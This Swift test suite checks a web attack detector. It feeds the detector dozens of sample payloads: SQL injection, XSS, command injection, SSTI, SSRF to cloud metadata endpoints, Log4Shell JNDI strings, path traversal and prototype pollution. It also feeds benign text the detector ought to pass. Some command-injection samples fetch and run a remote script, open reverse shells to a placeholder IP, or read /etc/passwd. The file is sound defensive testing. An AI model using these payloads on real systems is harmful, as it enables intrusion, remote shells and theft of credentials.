import PalisadeDetect
import Testing

/// Each category against payloads in the forms attackers send them, and against honest text that a
/// keyword matcher would flag. Values are checked as a direct-invoke field so only the detector decides.
@Suite struct DetectorSamplesTests {
    static let detector = Detector()

    static func findings(_ value: String, key: String = "value") -> [Finding] {
        let event = "{\(JSONQuote.quote(key)):\(JSONQuote.quote(value))}"
        return (try? detector.inspect(event: Array(event.utf8)).findings) ?? []
    }

    static let attacks: [(AttackCategory, String)] = [
        (.sqli, "1' OR '1'='1"), (.sqli, "admin'--"), (.sqli, "1 UNION ALL SELECT username, password FROM users"),
        (.sqli, "1; DROP TABLE users"), (.sqli, "1' AND SLEEP(5)#"), (.sqli, "x'/**/UnIoN/**/SeLeCt/**/1,2--"),
        (.sqli, "%2527%20OR%201%3D1--"), (.sqli, "1 or 1=1"), (.sqli, "') or ('a'='a"), (.sqli, "1/*!50000UNION*/ SELECT 1"),
        (.xss, "<script>alert(1)</script>"), (.xss, "<img src=x onerror=alert(1)>"), (.xss, "\" onmouseover=\"alert(1)"),
        (.xss, "javascript:alert(document.cookie)"), (.xss, "&lt;svg/onload=alert(1)&gt;"), (.xss, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
        (.xss, "';alert(String.fromCharCode(88))//"), (.xss, "%3Ciframe%20src%3Djavascript:alert(1)%3E"),
        (.cmdi, "x; cat /etc/passwd"), (.cmdi, "a.pdf && whoami"), (.cmdi, "$(curl http://198.51.100.1/x.sh | sh)"),
        (.cmdi, "`id`"), (.cmdi, "x|nc -e /bin/sh 198.51.100.1 4444"), (.cmdi, "x;c'a't${IFS}/etc/passwd"),
        (.cmdi, "() { :; }; /bin/bash -c 'id'"), (.cmdi, "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"), (.cmdi, "x\nwget http://198.51.100.1/a"),
        (.code, "__import__('os').system('id')"), (.code, "require('child_process').exec('id')"), (.code, "<?php system($_GET['c']); ?>"),
        (.code, "%{(#_memberAccess['allowStaticMethodAccess']=true)}"), (.code, "T(java.lang.Runtime).getRuntime().exec('id')"),
        (.code, "this.constructor.constructor('return process')()"), (.code, "eval(atob('YWxlcnQoMSk='))"),
        (.traversal, "../../../etc/passwd"), (.traversal, "..%2f..%2f..%2fetc%2fshadow"), (.traversal, "....//....//etc/passwd"),
        (.traversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), (.traversal, "..\\..\\windows\\win.ini"), (.traversal, "/proc/self/environ"),
        (.traversal, "php://filter/convert.base64-encode/resource=index.php"), (.traversal, "file.txt%00.jpg/../../var/task/app.py"),
        (.ssrf, "http://169.254.169.254/latest/meta-data/"), (.ssrf, "http://[fd00:ec2::254]/latest/"), (.ssrf, "http://169.254.170.2/v2/credentials"),
        (.ssrf, "http://2852039166/"), (.ssrf, "http://0251.0376.0251.0376/"), (.ssrf, "http://0xa9.0xfe.0xa9.0xfe/"),
        (.ssrf, "http://[::ffff:169.254.169.254]/"), (.ssrf, "http://127.1:9001/2018-06-01/runtime/invocation/next"),
        (.ssrf, "gopher://127.0.0.1:6379/_FLUSHALL"), (.ssrf, "http://user@10.0.0.5:8080/admin"), (.ssrf, "http://localhost/admin"),
        (.ssrf, "dict://127.0.0.1:11211/stats"), (.ssrf, "http://169.254.169.254.nip.io/"),
        (.jndi, "${jndi:ldap://198.51.100.9/a}"), (.jndi, "${${lower:j}ndi:${lower:l}dap://x/a}"), (.jndi, "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
        (.jndi, "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}"), (.jndi, "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"),
        (.ssti, "{{7*7}}"), (.ssti, "{{ ''.__class__.__mro__[1].__subclasses__() }}"), (.ssti, "${7*7}"),
        (.ssti, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"), (.ssti, "#set($x=1)"), (.ssti, "{{config.items()}}"),
    ]

    static let benign: [String] = [
        "O'Brien", "Let's select a date; we can drop by", "5 < 10 and 10 > 5", "https://example.com/search?q=shoes&page=2",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBiYXNlNjQgYmxvYg==", "Tom & Jerry", "rock 'n' roll", "I'd like to order 2 pizzas; one with ham",
        "Please select the size from the menu", "Meet me at 10:30 (room 4)", "C:\\Users\\ann\\Documents\\report.docx", "Hello {{name}}, welcome!",
        "price: $5 - $10", "user@example.com", "See section 3.2 ... and later", "The union of two sets", "SELECT your seat and drop by anytime",
        "1,2,3", "2026-11-23T10:00:00Z", "Mr. Smith's order #42 (urgent)", "He said \"run\" and left", "a=b&c=d", "50% off | today only",
        "curl is a tool", "cat lovers unite", "https://api.example.com/v1/users/42?fields=name,email",
        "Harsle (1319) und Haßelt (1599)", "/images/2026/photo.jpg", "{\"nested\": \"json with 'quotes'\"}",
    ]

    @Test(arguments: attacks)
    func flagsAttack(category: AttackCategory, payload: String) {
        let found = Self.findings(payload)
        #expect(found.contains { $0.category == category }, "\(category) missed: \(payload) → \(found.map(\.rule))")
    }

    @Test(arguments: benign)
    func leavesHonestTextClean(text: String) {
        let found = Self.findings(text)
        #expect(found.isEmpty, "flagged \(text) → \(found.map { "\($0.rule): \($0.evidence)" })")
    }

    @Test func flagsOperatorAndPrototypeKeys() throws {
        let nosql = try Self.detector.inspect(event: Array(#"{"user":"admin","password":{"$ne":null}}"#.utf8))
        #expect(nosql.findings.contains { $0.rule == "nosql.operator-key" && $0.location == "password.$ne" })
        let proto = try Self.detector.inspect(event: Array(#"{"a":{"constructor":{"prototype":{"isAdmin":true}}}}"#.utf8))
        #expect(proto.findings.contains { $0.rule == "proto.constructor-prototype" && $0.location == "a.constructor.prototype" })
        let bracket = Self.findings("1", key: "password[$regex]")
        #expect(bracket.contains { $0.category == .nosql })
        let protoKey = Self.findings("1", key: "__proto__[isAdmin]")
        #expect(protoKey.contains { $0.category == .proto })
    }

    /// A key that decodes to `prototype` is judged with its parent, also when the same key came
    /// before under another parent (the per-event cache once handed the second the first's verdict).
    @Test func judgesEveryPrototypeKeyWithItsOwnParent() throws {
        let event = #"{"a":{"pr%6ftotype":1},"b":{"PROTOTYPE":1},"constructor":{"pr%6ftotype":{"x":1},"PROTOTYPE":{"y":1}}}"#
        let verdict = try Self.detector.inspect(event: Array(event.utf8))
        let flagged = verdict.findings.filter { $0.rule == "proto.constructor-prototype" }.map(\.location)
        #expect(flagged == ["constructor.pr%6ftotype", "constructor.PROTOTYPE"])
    }

    /// The query string as one input, for CRS 931110: rebuilt from REST parameters, raw from HTTP API.
    @Test func remoteFileInclusionParameterIsSeenInTheQueryString() throws {
        let rest = #"{"httpMethod":"GET","path":"/","requestContext":{},"multiValueQueryStringParameters":{"mosConfig_absolute_path":["https://198.51.100.9/x.txt"]}}"#
        let http = #"{"version":"2.0","rawPath":"/","rawQueryString":"_CONF%5Bpath%5D=https://198.51.100.9/x.txt","requestContext":{}}"#
        for event in [rest, http] {
            let verdict = try Self.detector.inspect(event: Array(event.utf8))
            #expect(verdict.findings.contains { $0.rule == "crs.931110" && $0.location == "queryString" }, "\(verdict.findings.map(\.rule))")
        }
        let inputs = try Self.detector.inputs(of: Array(rest.utf8)).inputs
        #expect(!inputs.contains { $0.location == "queryString" }, "the rebuilt query string is no input of its own for the behaviour guard")
    }

    /// CRS matches the way the text's own language reads it: Unicode letters join words, prose has no
    /// command position mid-sentence, a markup-free path carries no script, XMP namespaces are not XHTML.
    @Test func crsMatchesAreReadInContext() throws {
        #expect(Self.findings("\\xd0\\xbcscript\\xd0\\xbealert(\\xc2\\xa2XSS\\xc2\\xa2)\\xd0/script").isEmpty)
        #expect(!Self.findings("alert(document.domain)").isEmpty)
        #expect(Self.findings("While this is a challenging time for us all, we are busy helping customers.\n").isEmpty)
        #expect(!Self.findings("time ping -c 20 198.51.100.1").isEmpty)
        #expect(Self.findings(#"<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">"#).isEmpty)
        #expect(Self.findings(#"<html xmlns="http://www.w3.org/1999/xhtml"><body></body></html>"#).contains { $0.rule == "crs.941130" })
        #expect(!Self.findings("new Function (").isEmpty, "a parameter that opens a call may be spliced into code that closes it")
        for (path, clean) in [("/get/javascript-manual/document.cookie", true), ("/get/eval(", true), ("/p/<script>alert(1)</script>", false)] {
            let event = #"{"httpMethod":"GET","path":"# + JSONQuote.quote(path) + #","requestContext":{}}"#
            let verdict = try Self.detector.inspect(event: Array(event.utf8))
            #expect(verdict.findings.isEmpty == clean, "\(path) → \(verdict.findings.map(\.rule))")
        }
    }

    @Test func evidenceIsTheDecodedFragment() {
        let found = Self.findings("%252e%252e%252f%252e%252e%252fetc%252fpasswd")
        #expect(found.contains { $0.category == .traversal && $0.evidence.contains("../") })
    }
}

/// A JSON string literal for building test events.
enum JSONQuote {
    static func quote(_ text: String) -> String {
        var output = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"": output += "\\\""
            case "\\": output += "\\\\"
            case "\n": output += "\\n"
            case "\r": output += "\\r"
            case "\t": output += "\\t"
            default:
                if scalar.value < 0x20 { output += "\\u00" + (scalar.value < 0x10 ? "0" : "") + String(scalar.value, radix: 16) } else { output.unicodeScalars.append(scalar) }
            }
        }
        return output + "\""
    }
}
